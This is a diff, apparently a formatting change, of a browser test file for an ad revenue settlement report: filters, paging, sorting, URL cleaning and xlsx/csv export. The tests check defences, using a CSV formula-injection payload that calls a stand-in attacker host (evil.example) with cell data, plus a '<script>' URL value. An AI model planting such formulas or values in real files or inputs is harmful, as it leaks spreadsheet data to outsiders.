@@ -6,7 +6,13 @@ import { assert, test, until } from '../lib/harness.mjs';
 import { clearFaults, setFault, signIn } from '../lib/console.mjs';
 
 const PATH = '/information/settlement';
-const AD_TYPES = { splash: 'Splash', banner: 'Banner', interstitial: 'Interstitial', native: 'Native', rewarded: 'Rewarded video' };
+const AD_TYPES = {
+  splash: 'Splash',
+  banner: 'Banner',
+  interstitial: 'Interstitial',
+  native: 'Native',
+  rewarded: 'Rewarded video',
+};
 const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
 
 const bodyRows = (page) => page.locator('[data-testid=settlement-table] tbody tr.ant-table-row');
@@ -26,7 +32,12 @@ const query = (page) => new URL(page.url()).searchParams;
 
 /** Today in the report's time zone (Asia/Shanghai), as the page computes it. */
 function todayInShanghai() {
-  const p = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Shanghai', year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date());
+  const p = new Intl.DateTimeFormat('en-CA', {
+    timeZone: 'Asia/Shanghai',
+    year: 'numeric',
+    month: '2-digit',
+    day: '2-digit',
+  }).format(new Date());
   return p;
 }
 function addDays(date, n) {
@@ -39,7 +50,11 @@ async function api(page, path, body) {
     async ([p, b]) => {
       const res = await fetch(p, {
         method: 'POST',
-        headers: { 'content-type': 'application/json', 'user-token': localStorage.getItem('gsAuthorization') || '', 'Accept-Language': 'en-US' },
+        headers: {
+          'content-type': 'application/json',
+          'user-token': localStorage.getItem('gsAuthorization') || '',
+          'Accept-Language': 'en-US',
+        },
         body: JSON.stringify(b),
       });
       return res.json();
@@ -87,7 +102,10 @@ function parseCsv(text) {
   return rows;
 }
 
-test('settlement: filters by app and ad type, grouped by day and ad position, with totals and status tags', async ({ page, baseURL }) => {
+test('settlement: filters by app and ad type, grouped by day and ad position, with totals and status tags', async ({
+  page,
+  baseURL,
+}) => {
   await openReport(page, baseURL);
   assert.equal(await bodyRows(page).count(), 7);
   const tags = await page.locator('[data-testid=settlement-table] [data-status]').allTextContents();
@@ -127,28 +145,46 @@ test('settlement: filters by app and ad type, grouped by day and ad position, wi
   const totals = page.getByTestId('settlement-totals');
   assert.equal(money(await totals.locator('[data-metric=revenue]').textContent()), expected.result.totals.revenue);
   assert.equal(money(await totals.locator('[data-metric=requests]').textContent()), expected.result.totals.requests);
-  assert.equal(await totals.locator('[data-metric=ctr]').textContent(), `${(expected.result.totals.ctr * 100).toFixed(2)}%`);
+  assert.equal(
+    await totals.locator('[data-metric=ctr]').textContent(),
+    `${(expected.result.totals.ctr * 100).toFixed(2)}%`,
+  );
 });
 
 test('settlement: pages and sorts on the server; back and forward restore the report', async ({ page, baseURL }) => {
   const today = todayInShanghai();
   await openReport(page, baseURL, `?start=${addDays(today, -29)}&end=${today}&group=adPosition`);
-  const total = (await api(page, '/media/settlement/list', { startDate: addDays(today, -29), endDate: today, groupBy: ['adPosition'] })).result.total;
+  const total = (
+    await api(page, '/media/settlement/list', {
+      startDate: addDays(today, -29),
+      endDate: today,
+      groupBy: ['adPosition'],
+    })
+  ).result.total;
   assert.ok(total > 20, `several pages (${total} rows)`);
   await page.getByText(`${total} in total`).waitFor();
   const rowsText = () => bodyRows(page).allTextContents();
 
   await page.locator('thead th', { hasText: 'Revenue' }).click();
-  await until(() => query(page).get('sort') === 'revenue' && query(page).get('order') === 'ascend', 'ascending revenue in the link');
+  await until(
+    () => query(page).get('sort') === 'revenue' && query(page).get('order') === 'ascend',
+    'ascending revenue in the link',
+  );
   await waitReady(page);
   const ascending = (await cellTexts(page, 'Revenue')).map(money);
-  assert.deepEqual(ascending, [...ascending].sort((a, b) => a - b));
+  assert.deepEqual(
+    ascending,
+    [...ascending].sort((a, b) => a - b),
+  );
   const ascendingRows = await rowsText();
   await page.locator('thead th', { hasText: 'Revenue' }).click();
   await until(() => query(page).get('order') === 'descend', 'descending revenue');
   await waitReady(page);
   const descending = (await cellTexts(page, 'Revenue')).map(money);
-  assert.deepEqual(descending, [...descending].sort((a, b) => b - a));
+  assert.deepEqual(
+    descending,
+    [...descending].sort((a, b) => b - a),
+  );
   assert.ok(descending[9] >= ascending[9]);
   const firstPage = await rowsText();
 
@@ -183,9 +219,16 @@ test('settlement: pages and sorts on the server; back and forward restore the re
   assert.deepEqual(await bodyRows(other).allTextContents(), firstPage);
 });
 
-test('settlement: a period over one year is refused with a clear message; hostile link values are ignored', async ({ page, baseURL }) => {
+test('settlement: a period over one year is refused with a clear message; hostile link values are ignored', async ({
+  page,
+  baseURL,
+}) => {
   const today = todayInShanghai();
-  await openReport(page, baseURL, '?apps=1001,1013,abc&types=banner,<script>&group=week&size=1000&sort=password&order=up&start=2020-02-30&end=x');
+  await openReport(
+    page,
+    baseURL,
+    '?apps=1001,1013,abc&types=banner,<script>&group=week&size=1000&sort=password&order=up&start=2020-02-30&end=x',
+  );
   // 1013 belongs to another publisher, the rest is malformed: all dropped, and the link shows what applies.
   await until(() => query(page).get('apps') === '1001' && query(page).get('types') === 'banner', 'a cleaned link');
   assert.equal(query(page).get('size'), null);
@@ -219,62 +262,119 @@ test('settlement: a period over one year is refused with a clear message; hostil
   assert.equal(query(page).get('end'), addDays(`${today.slice(0, 7)}-01`, -1));
 });
 
-test('settlement: exports the whole filtered range to xlsx and csv in a worker, escaping a hostile app name', async ({ page, baseURL }) => {
-  const today = todayInShanghai();
-  const start = addDays(today, -29);
-  await openReport(page, baseURL, `?start=${start}&end=${today}&group=day,adPosition&apps=1001,1002,1007`);
-  const renamed = await api(page, '/media/app/update', { id: 1001, name: HOSTILE });
-  assert.equal(renamed.code, 0);
-  try {
-    await page.reload();
-    await waitReady(page);
-    const workers = [];
-    page.on('worker', (w) => workers.push(w.url()));
-    const warnings = [];
-    page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));
+test(
+  'settlement: exports the whole filtered range to xlsx and csv in a worker, escaping a hostile app name',
+  async ({ page, baseURL }) => {
+    const today = todayInShanghai();
+    const start = addDays(today, -29);
+    await openReport(page, baseURL, `?start=${start}&end=${today}&group=day,adPosition&apps=1001,1002,1007`);
+    const renamed = await api(page, '/media/app/update', { id: 1001, name: HOSTILE });
+    assert.equal(renamed.code, 0);
+    try {
+      await page.reload();
+      await waitReady(page);
+      const workers = [];
+      page.on('worker', (w) => workers.push(w.url()));
+      const warnings = [];
+      page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));
 
-    const request = { startDate: start, endDate: today, groupBy: ['day', 'adPosition'], appIds: [1001, 1002, 1007], adPositionIds: [], adTypes: [] };
-    const expected = (await api(page, '/media/settlement/export', request)).result;
-    assert.ok(expected.rows.length > 200, `a range of many pages (${expected.rows.length} rows)`);
-    const titles = expected.columns.map((c) => c.title);
+      const request = {
+        startDate: start,
+        endDate: today,
+        groupBy: ['day', 'adPosition'],
+        appIds: [1001, 1002, 1007],
+        adPositionIds: [],
+        adTypes: [],
+      };
+      const expected = (await api(page, '/media/settlement/export', request)).result;
+      assert.ok(expected.rows.length > 200, `a range of many pages (${expected.rows.length} rows)`);
+      const titles = expected.columns.map((c) => c.title);
 
-    for (const format of ['xlsx', 'csv']) {
-      await page.getByTestId('settlement-export').click();
-      const item = page.getByRole('menuitem', { name: format === 'xlsx' ? 'Export Excel (.xlsx)' : 'Export CSV (.csv)' });
-      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), item.click()]);
-      assert.equal(download.suggestedFilename(), `settlement_${start}_${today}.${format}`);
-      const file = await download.path();
-      const matrix =
-        format === 'xlsx'
-          ? XLSX.utils.sheet_to_json(XLSX.read(readFileSync(file)).Sheets.Settlement, { header: 1, blankrows: true, defval: '' })
-          : parseCsv(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
-      const cell = (v) => (format === 'csv' && v !== '' && !Number.isNaN(Number(v)) ? Number(v) : v);
-      const header = matrix.findIndex((line) => line[0] === 'Date');
-      assert.deepEqual(matrix.slice(0, 6).map((l) => l[0]), ['Settlement report', 'Period', 'Time zone', 'Currency', 'Generated at', 'Data updated at']);
-      assert.equal(matrix[1][1], `${start} – ${today}`);
-      assert.equal(matrix[2][1], 'Asia/Shanghai');
-      assert.equal(matrix[3][1], 'USD');
-      assert.deepEqual(matrix[header], titles);
-      const body = matrix.slice(header + 1, header + 1 + expected.rows.length);
-      assert.equal(body.length, expected.rows.length);
-      body.forEach((line, i) => {
-        const r = expected.rows[i];
-        const name = r.appName === HOSTILE ? `'${HOSTILE}` : r.appName;
-        const want = [r.date, r.status === 'final' ? 'Final' : 'Estimated', name, r.adPositionName, AD_TYPES[r.adType]];
-        assert.deepEqual(line.slice(0, 5), want, `row ${i}`);
-        assert.deepEqual(line.slice(5).map(cell), [r.requests, r.fills, r.fillRate, r.impressions, r.showRate, r.clicks, r.ctr, r.ecpm, r.revenue], `row ${i}`);
-      });
-      assert.ok(body.some((line) => line[2] === `'${HOSTILE}`), 'the hostile name is in the file, escaped');
-      assert.ok(body.some((line) => line[2] === 'Tap & Match <b>Puzzle</b>'));
-      assert.ok(!matrix.flat().some((v) => typeof v === 'string' && /^[=+\-@]/.test(v)), 'no cell starts a formula');
-      const totals = matrix[header + 1 + expected.rows.length];
-      const t = expected.totals;
-      assert.deepEqual(totals.map(cell), ['Total', '', '', '', '', t.requests, t.fills, t.fillRate, t.impressions, t.showRate, t.clicks, t.ctr, t.ecpm, t.revenue]);
-      await page.getByText(`Exported ${expected.rows.length} rows to settlement_${start}_${today}.${format}`).waitFor();
+      for (const format of ['xlsx', 'csv']) {
+        await page.getByTestId('settlement-export').click();
+        const item = page.getByRole('menuitem', {
+          name: format === 'xlsx' ? 'Export Excel (.xlsx)' : 'Export CSV (.csv)',
+        });
+        const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), item.click()]);
+        assert.equal(download.suggestedFilename(), `settlement_${start}_${today}.${format}`);
+        const file = await download.path();
+        const matrix =
+          format === 'xlsx'
+            ? XLSX.utils.sheet_to_json(XLSX.read(readFileSync(file)).Sheets.Settlement, {
+                header: 1,
+                blankrows: true,
+                defval: '',
+              })
+            : parseCsv(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
+        const cell = (v) => (format === 'csv' && v !== '' && !Number.isNaN(Number(v)) ? Number(v) : v);
+        const header = matrix.findIndex((line) => line[0] === 'Date');
+        assert.deepEqual(
+          matrix.slice(0, 6).map((l) => l[0]),
+          ['Settlement report', 'Period', 'Time zone', 'Currency', 'Generated at', 'Data updated at'],
+        );
+        assert.equal(matrix[1][1], `${start} – ${today}`);
+        assert.equal(matrix[2][1], 'Asia/Shanghai');
+        assert.equal(matrix[3][1], 'USD');
+        assert.deepEqual(matrix[header], titles);
+        const body = matrix.slice(header + 1, header + 1 + expected.rows.length);
+        assert.equal(body.length, expected.rows.length);
+        body.forEach((line, i) => {
+          const r = expected.rows[i];
+          const name = r.appName === HOSTILE ? `'${HOSTILE}` : r.appName;
+          const want = [
+            r.date,
+            r.status === 'final' ? 'Final' : 'Estimated',
+            name,
+            r.adPositionName,
+            AD_TYPES[r.adType],
+          ];
+          assert.deepEqual(line.slice(0, 5), want, `row ${i}`);
+          assert.deepEqual(
+            line.slice(5).map(cell),
+            [r.requests, r.fills, r.fillRate, r.impressions, r.showRate, r.clicks, r.ctr, r.ecpm, r.revenue],
+            `row ${i}`,
+          );
+        });
+        assert.ok(
+          body.some((line) => line[2] === `'${HOSTILE}`),
+          'the hostile name is in the file, escaped',
+        );
+        assert.ok(body.some((line) => line[2] === 'Tap & Match <b>Puzzle</b>'));
+        assert.ok(!matrix.flat().some((v) => typeof v === 'string' && /^[=+\-@]/.test(v)), 'no cell starts a formula');
+        const totals = matrix[header + 1 + expected.rows.length];
+        const t = expected.totals;
+        assert.deepEqual(totals.map(cell), [
+          'Total',
+          '',
+          '',
+          '',
+          '',
+          t.requests,
+          t.fills,
+          t.fillRate,
+          t.impressions,
+          t.showRate,
+          t.clicks,
+          t.ctr,
+          t.ecpm,
+          t.revenue,
+        ]);
+        await page
+          .getByText(`Exported ${expected.rows.length} rows to settlement_${start}_${today}.${format}`)
+          .waitFor();
+      }
+      assert.equal(
+        workers.filter((u) => /\/sheet\.worker\.[0-9a-f]+\.js$/.test(u)).length,
+        2,
+        `workers: ${workers.join(', ')}`,
+      );
+      assert.deepEqual(
+        warnings.filter((w) => w.includes('settlement export')),
+        [],
+      );
+    } finally {
+      await api(page, '/media/app/update', { id: 1001, name: 'Block Puzzle Classic' });
     }
-    assert.equal(workers.filter((u) => /\/sheet\.worker\.[0-9a-f]+\.js$/.test(u)).length, 2, `workers: ${workers.join(', ')}`);
-    assert.deepEqual(warnings.filter((w) => w.includes('settlement export')), []);
-  } finally {
-    await api(page, '/media/app/update', { id: 1001, name: 'Block Puzzle Classic' });
-  }
-}, { timeout: 120000 });
+  },
+  { timeout: 120000 },
+);
